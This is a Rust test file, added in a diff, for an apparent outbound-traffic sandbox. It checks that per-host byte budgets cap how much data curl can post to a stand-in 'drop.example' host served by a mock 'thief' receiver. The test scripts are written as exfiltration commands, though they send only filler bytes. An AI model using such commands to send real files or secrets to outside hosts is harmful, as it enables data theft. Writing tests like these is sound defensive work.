@@ -1,0 +1,69 @@
+//! How much may leave under a rule that says how much.
+
+use outgate_harness::audit::{records, text};
+use outgate_harness::{Identity, Lab, Sandbox, lab_tests};
+
+use crate::{bash, thief};
+
+/// A sandbox whose rule for the thief's host has this budget.
+fn allowed<'l>(lab: &'l Lab, budget: &str) -> Sandbox<'l> {
+    let file = lab
+        .folder("given", Identity::Own)
+        .join(format!("{budget}.toml"));
+    let policy = format!(
+        "[[allow]]\nrule = \"http://drop.example:8099\"\nbudget = \"{budget}\"\n\
+         [[allow]]\nrule = \"ws://drop.example:8099\"\nbudget = \"{budget}\"\n"
+    );
+    std::fs::write(&file, policy).expect("a policy");
+    let work = lab.folder("work", Identity::Own);
+    Sandbox::plain(lab, Identity::Own)
+        .option("-P", "base")
+        .option("-p", &file.to_string_lossy())
+        .option("-w", &work.to_string_lossy())
+        .pin("drop.example:8099=127.0.0.1:8099")
+}
+
+lab_tests! {
+    fn what_a_rule_lets_out_is_counted_over_all_requests(lab) {
+        let thief = thief();
+        let file = lab.folder("records", Identity::Own).join("budget.jsonl");
+        let script = "for n in 1 2 3 4 5; do head -c 3000 /dev/zero | tr '\\0' 'a' | curl -sS --data-binary @- $URL/$n; echo; done";
+        let outcome = allowed(lab, "10K")
+            .option("--audit", &file.to_string_lossy())
+            .run(&bash(script));
+        let arrived = outcome.stdout.lines().filter(|line| *line == "arrived").count();
+        assert_eq!(arrived, 3, "{outcome}");
+        assert!(outcome.stdout.contains("outgate denied POST http://drop.example:8099"), "{outcome}");
+        assert!(outcome.stdout.contains("10K.toml:2:9"), "the place: {outcome}");
+        let sent = thief.take();
+        assert!(sent.len() <= 10 * 1024 && sent.len() > 9000, "{}", sent.len());
+        let records = records(&file);
+        let of = |verdict: &str| {
+            let is = |record: &&serde_json::Value| {
+                text(record, "reason") == "budget" && text(record, "verdict") == verdict
+            };
+            records.iter().filter(is).count()
+        };
+        assert_eq!(of("note"), 1, "told once that it is nearly spent: {records:?}");
+        assert!(of("deny") >= 1, "{records:?}");
+    }
+
+    fn content_of_no_known_length_ends_where_the_budget_does(lab) {
+        let thief = thief();
+        let script = "head -c 3000000 /dev/zero | curl -sS -H 'Transfer-Encoding: chunked' -H 'Expect:' --data-binary @- $URL/; echo; curl -sS $URL/";
+        let outcome = allowed(lab, "1M").run(&bash(script));
+        assert!(!outcome.stdout.contains("arrived\n\n"), "{outcome}");
+        let sent = thief.take();
+        assert!(sent.len() <= (1 << 20) + 65_536, "{}", sent.len());
+        assert!(outcome.stderr.contains("budget"), "{outcome}");
+    }
+
+    fn what_fits_arrives(lab) {
+        let thief = thief();
+        let script = "head -c 900000 /dev/zero | curl -sS --data-binary @- $URL/";
+        let outcome = allowed(lab, "1M").run(&bash(script));
+        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
+        assert!(!outcome.stderr.contains("outgate"), "{outcome}");
+        assert!(thief.take().len() > 900_000);
+    }
+}
